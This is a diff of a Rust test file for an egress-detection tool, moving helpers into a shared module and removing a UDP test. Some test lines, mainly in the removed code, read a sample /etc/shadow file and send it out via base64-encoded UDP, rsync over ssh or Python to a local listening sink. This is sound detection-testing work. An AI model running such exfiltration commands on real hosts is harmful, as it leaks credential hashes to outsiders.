@@ -2,71 +2,11 @@
 //! file, program, destination and confidence.
 
 use counterfoil_tests::daemon::Daemon;
+use counterfoil_tests::leak::{SHADOW, chain, exe, in_python, leaking, leaks, left, with_secret};
 use counterfoil_tests::sink::Sink;
 use counterfoil_tests::sshd::Sshd;
-use counterfoil_tests::{Alarm, Observed, Run, Scratch, check, need, need_sshd, peers, wait};
+use counterfoil_tests::{Observed, Scratch, check, need, need_sshd, peers, wait};
 use std::time::Duration;
-
-/// As /etc/shadow looks on a small host.
-const SHADOW: &str = "root:$6$Vq0bnmQx1c7aK2yZ$0p9Jt1mNf3sXWq8dEoLhU5rGzKcYv7b2TnAi4Hs6QwMxRjPkZ1eDfVgBhNyCuIo:19700:0:99999:7:::\n\
-    ann:$6$hT4kLw92mXpQz8Rv$Yc3nVb7KjH1gFdSaQ0wEr5TyUiOp9LkMn6BvCx2Zs4XdEw8RfTgYhJuIkOlPm3Qa:19811:0:99999:7:::\n";
-
-/// `commands`, with `secret/shadow` to leak, of which the configuration says that it is sensitive.
-fn with_secret(scratch: Scratch, commands: &str) -> Observed {
-    let here = scratch.path().canonicalize().expect("scratch").display().to_string();
-    scratch.write("secret/shadow", SHADOW);
-    let config = format!("[egress]\n[[egress.sensitive]]\npath = \"{here}/secret/*\"\nlabel = \"hashes\"\n");
-    let config = scratch.write("egress.toml", config).display().to_string();
-    let mut session = Observed::script(commands).option("--config").option(config);
-    session.scratch = scratch;
-    session
-}
-
-/// Runs `commands`, in which `$P` is the port of somebody who listens to everything.
-fn leaking(commands: &str) -> Run {
-    let sink = Sink::start();
-    with_secret(Scratch::new(), commands).env("P", sink.port().to_string()).limit(120).go().well()
-}
-
-fn leaks(run: &Run) -> Vec<Alarm> {
-    run.report.alarms().into_iter().filter(|a| a.rule() == "sensitive-egress").collect()
-}
-
-fn exe(alarm: &Alarm) -> &str {
-    alarm.0["process"]["exe"].as_str().unwrap_or("").rsplit('/').next().unwrap_or("")
-}
-
-/// The file left through `program`, that certainly.
-fn left(run: &Run, program: &str, confidence: &str) -> Alarm {
-    let found = leaks(run);
-    let from = |a: &&Alarm| exe(a).starts_with(program);
-    // An alarm is told again when more is known.
-    let alarm = found.iter().rfind(from).filter(|a| a.0["confidence"] == confidence);
-    let all: Vec<_> = found.iter().map(|a| (exe(a).to_owned(), a.0["confidence"].to_string())).collect();
-    check!(run, alarm.is_some(), "no {confidence} sensitive-egress by {program}, but {all:?}");
-    let alarm = alarm.expect("checked").clone();
-    let path = run.scratch.path().canonicalize().expect("scratch").join("secret/shadow");
-    check!(run, alarm.0["file"]["path"] == path.to_string_lossy().as_ref(), "{}", alarm.0["file"]);
-    check!(run, alarm.0["file"]["label"] == "hashes", "{}", alarm.0["file"]);
-    check!(run, alarm.0["analytic"] == "AN0989" && alarm.0["technique"] == "T1041", "{}", alarm.0);
-    let severity = if confidence == "proven" { "critical" } else { "high" };
-    check!(run, alarm.0["severity"] == severity, "{}", alarm.0["severity"]);
-    check!(run, alarm.0["connection"]["remote"].is_string(), "{}", alarm.0["connection"]);
-    let chain = alarm.0["evidence"]["chain"].as_array().cloned().unwrap_or_default();
-    check!(run, chain.last().is_some_and(|s| s["did"] == "sent"), "{}", alarm.0["evidence"]);
-    alarm
-}
-
-/// The programs of the chain, in order, without repeats.
-fn chain(alarm: &Alarm) -> Vec<String> {
-    let steps = alarm.0["evidence"]["chain"].as_array().cloned().unwrap_or_default();
-    let name =
-        |v: &serde_json::Value| v["exe"].as_str().unwrap_or("").rsplit('/').next().unwrap_or("").to_owned();
-    let mut names: Vec<String> = steps.iter().flat_map(|s| [name(&s["process"]), name(&s["to"])]).collect();
-    names.retain(|n| !n.is_empty());
-    names.dedup();
-    names
-}
 
 #[test]
 fn curl() {
@@ -126,18 +66,6 @@ fn python() {
     ] {
         left(&leaking(&in_python(code)), "python3", "proven");
     }
-}
-
-/// As in the questions of a resolver: encoded, in datagrams.
-#[test]
-fn in_datagrams() {
-    need!("/usr/bin/python3");
-    let socket = std::net::UdpSocket::bind(("127.0.0.1", 0)).expect("bind");
-    let port = socket.local_addr().expect("address").port();
-    let run = leaking(&in_python(&format!(
-        "import socket, base64; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((\"127.0.0.1\", {port})); s.send(base64.b64encode(open(\"secret/shadow\",\"rb\").read())[:60])"
-    )));
-    left(&run, "python3", "correlated");
 }
 
 #[test]
@@ -215,11 +143,6 @@ fn over_ssh() {
     if peers::find("rsync").is_some() {
         left(&to("rsync -a secret/shadow far:$here/got"), "ssh", "proven");
     }
-}
-
-/// A program in Python, as the words of a shell.
-fn in_python(code: &str) -> String {
-    format!("{} -c \"{}\"", peers::PYTHON, code.replace('"', "\\\""))
 }
 
 #[test]
